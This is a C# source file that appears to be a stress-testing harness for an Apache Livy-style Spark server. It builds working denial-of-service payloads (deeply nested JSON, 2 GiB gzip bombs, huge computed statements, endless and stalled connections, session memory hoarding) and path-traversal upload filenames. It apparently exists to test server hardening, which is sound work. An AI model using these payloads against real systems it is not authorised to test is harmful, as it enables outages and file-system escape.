using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace Livy.Client.Attacks;

/// <summary>What has felled such servers before: depth, bombs, what has no end, what stands still, names that lead elsewhere, and hoarding.</summary>
internal static class AimedAttacks
{
    private const int Mebibyte = 1 << 20;
    private const string Json = "Content-Type: application/json\r\n";
    private static readonly byte[] Zeros = new byte[9 * Mebibyte];

    public static IReadOnlyList<AimedAttack> All { get; } =
    [
        Post("20,000 brackets in a body", "/sessions", Text(new string('[', 20_000))),
        Post("20,000 brackets in a property", "/batches", Text("{\"conf\":" + new string('[', 20_000))),
        Late("2,000,000 nested objects", () => Post("", "/sessions/target/statements", Text("{\"code\":\"1\",\"msg_type\":" + string.Concat(Enumerable.Repeat("{\"a\":", 2_000_000))))),
        .. Statements("10,000 open parentheses", new string('(', 10_000) + "1" + new string(')', 10_000)),
        .. Statements("1,000,000 open parentheses", new string('(', 1_000_000)),
        .. Statements("100,000 minus signs", new string('-', 100_000) + "1"),
        .. Statements("10,000 nested lists", new string('[', 10_000)),
        .. Statements("a tower of powers", "9**9**9**9**9"),
        .. Statements("a text times a billion", "'a' * 1000000000"),
        .. Statements("a range of a trillion", "range(1000000000000)"),
        .. Statements("100,000 sums", string.Join('+', Enumerable.Repeat("1", 100_000))),
        Late("a gzip body of 2 GiB of spaces", () => Post("", "/sessions", Bomb(' '), "Content-Encoding: gzip\r\n")),
        Late("a gzip body of 2 GiB of brackets", () => Post("", "/sessions", Bomb('['), "Content-Encoding: gzip\r\n")),
        Late("100 gzip bodies of 2 GiB at once", () => Many("", 100, Post("", "/sessions", Bomb('a'), "Content-Encoding: gzip\r\n"))),
        Late("50,000 parts", () => Post("", "/sessions/target/upload-jar", Text(string.Concat(Enumerable.Repeat("--B\r\nContent-Disposition: form-data; name=\"jar\"; filename=\"a\"\r\n\r\nx\r\n", 50_000)) + "--B--\r\n"), "Content-Type: multipart/form-data; boundary=B\r\n")),
        Late("a form of 10 MB", () => Post("", "/sessions", Long("", 10_000_000, ""), "Content-Type: application/x-www-form-urlencoded\r\n")),
        Late("a text of 30 MB", () => Post("", "/sessions", Long("{\"name\":\"", 30_000_000, "\"}"))),
        Endless("headers without end", "GET /version HTTP/1.1\r\nHost: x\r\n", "a: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\r\n"),
        Endless("one header without end", "GET /version HTTP/1.1\r\nHost: x\r\na: ", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"),
        Endless("a target without end", "GET /", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
        Endless("chunks without end", "POST /sessions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", "20\r\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n"),
        Endless("a chunked upload without end", "POST /sessions/target/upload-jar HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=B\r\nTransfer-Encoding: chunked\r\n\r\n", "20\r\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n"),
        Endless("a body of a terabyte", "POST /sessions HTTP/1.1\r\nHost: x\r\nContent-Length: 1099511627776\r\n\r\n", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
        Many("30 uploads of 100 MB at once", 30, Endless("", "POST /sessions/target/upload-jar HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: 104857600\r\n\r\n--B\r\n", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")),
        Many("200 bodies of 10 MB that stand still", 200, new AimedAttack("", StandStillAsync)),
        new AimedAttack("1,000 statements of 1 MB", (url, token) => RepeatAsync(1_000, number => Post("", "/sessions/target/statements", Text($"{{\"code\":\"'{number}{new string('a', Mebibyte)}'\"}}")), url, token)),
        new AimedAttack("1,000 variables of 1 MB", (url, token) => RepeatAsync(1_000, number => Post("", "/sessions/target/statements", Text($"{{\"code\":\"x{number} = 'a' * {Mebibyte}\"}}")), url, token)),
        new AimedAttack("90 sessions with 100 variables of 100 kB", HoardVariablesAsync),
        new AimedAttack("5,000 names of 100 kB", (url, token) => RepeatAsync(5_000, number => Post("", "/batches", Text($"{{\"file\":\"hdfs:///a.jar\",\"name\":\"n{number}{new string('a', 100_000)}\"}}")), url, token)),
        Many("500 readers of long pages who do not read", 500, new AimedAttack("", NotReadingAsync)),
        .. ((string[])["../../../../escaped.jar", "/tmp/escaped.jar", "..\\..\\escaped.jar", "escaped.jar", "%2e%2e%2fescaped.jar"]).Select(file => Post(
            $"a file named {file}", "/sessions/target/upload-file", Text($"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file}\"\r\n\r\nx\r\n--B--\r\n"), "Content-Type: multipart/form-data; boundary=B\r\n")),
    ];

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Long(string start, int length, string end)
    {
        var body = new byte[start.Length + length + end.Length];
        body.AsSpan().Fill((byte)'a');
        Text(start).CopyTo(body, 0);
        Text(end).CopyTo(body, start.Length + length);
        return body;
    }

    /// <summary>Makes what it sends only when it is sent: all together would be too much to hold.</summary>
    private static AimedAttack Late(string name, Func<AimedAttack> make) => new(name, (url, token) => make().RunAsync(url, token));

    private static AimedAttack Post(string name, string path, byte[] body, string headers = Json) => new(name, async (url, token) =>
    {
        using var connection = await RawConnection.OpenAsync(url, token);
        var head = string.Create(CultureInfo.InvariantCulture, $"POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{headers}Content-Length: {body.Length}\r\n\r\n");
        await connection.SendAsync(Text(head), token);
        await connection.SendAsync(body, token);
        return await connection.ReadFirstLineAsync(token);
    });

    private static IEnumerable<AimedAttack> Statements(string name, string code) =>
        ((string[])["pyspark", "spark", "sql"]).Select(kind => Post($"{name} in {kind}", "/sessions/target/statements", Text($"{{\"kind\":\"{kind}\",\"code\":\"{(kind is "sql" ? "select " : "")}{code}\"}}")));

    /// <summary>Sends the same again and again until the server has enough, or 300 MB.</summary>
    private static AimedAttack Endless(string name, string start, string again) => new(name, async (url, token) =>
    {
        using var connection = await RawConnection.OpenAsync(url, token);
        var block = Text(string.Concat(Enumerable.Repeat(again, 65_536 / again.Length)));
        var isTaken = await connection.SendAsync(Text(start), token);
        for (long sent = 0; isTaken && sent < 300L * Mebibyte; sent += block.Length)
        {
            isTaken = await connection.SendAsync(block, token);
        }

        connection.EndSending();
        return await connection.ReadFirstLineAsync(token);
    });

    private static AimedAttack Many(string name, int count, AimedAttack attack) => new(name, async (url, token) =>
    {
        var lines = await Task.WhenAll(Enumerable.Range(0, count).Select(_ => attack.RunAsync(url, token)));
        return string.Join(", ", lines.CountBy(line => line, StringComparer.Ordinal).Select(group => $"{group.Value} × {(group.Key.Length == 0 ? "no answer" : group.Key)}"));
    });

    private static async Task<string> RepeatAsync(int count, Func<int, AimedAttack> attack, Uri url, CancellationToken cancellationToken)
    {
        Dictionary<string, int> lines = new(StringComparer.Ordinal);
        for (var number = 0; number < count; number++)
        {
            var line = await attack(number).RunAsync(url, cancellationToken);
            lines[line] = lines.GetValueOrDefault(line) + 1;
        }

        return string.Join(", ", lines.Select(line => $"{line.Value} × {line.Key}"));
    }

    private static async Task<string> HoardVariablesAsync(Uri url, CancellationToken cancellationToken)
    {
        await RepeatAsync(90, number => Post("", "/sessions", Text($"{{\"kind\":\"pyspark\",\"name\":\"hoard{number}\"}}")), url, cancellationToken);
        return await RepeatAsync(9_000, number => Post("", $"/sessions/hoard{number % 90}/statements", Text($"{{\"code\":\"x{number} = 'a' * 100000\"}}")), url, cancellationToken);
    }

    private static async Task<string> StandStillAsync(Uri url, CancellationToken cancellationToken)
    {
        using var connection = await RawConnection.OpenAsync(url, cancellationToken);
        await connection.SendAsync(Text($"POST /sessions HTTP/1.1\r\nHost: x\r\nContent-Length: {10 * Mebibyte}\r\n\r\n"), cancellationToken);
        using var pause = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        pause.CancelAfter(TimeSpan.FromSeconds(5));
        try
        {
            await connection.SendAsync(Zeros, pause.Token);
            return await connection.ReadFirstLineAsync(pause.Token);
        }
        catch (OperationCanceledException) when (!cancellationToken.IsCancellationRequested)
        {
            return "still waited for";
        }
    }

    private static async Task<string> NotReadingAsync(Uri url, CancellationToken cancellationToken)
    {
        using var connection = await RawConnection.OpenAsync(url, cancellationToken);
        await connection.SendAsync(Text("GET /sessions/target/statements HTTP/1.1\r\nHost: x\r\n\r\nGET /batches HTTP/1.1\r\nHost: x\r\n\r\n"), cancellationToken);

        // Real time: meanwhile the server makes both pages and is left with them.
        await Task.Delay(TimeSpan.FromSeconds(2), TimeProvider.System, cancellationToken);
        return await connection.ReadFirstLineAsync(cancellationToken);
    }

    private static byte[] Bomb(char content)
    {
        using var target = new MemoryStream();
        using (var gzip = new GZipStream(target, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            var block = Text(new string(content, Mebibyte));
            for (var block64 = 0; block64 < 2_048; block64++)
            {
                gzip.Write(block);
            }
        }

        return target.ToArray();
    }
}
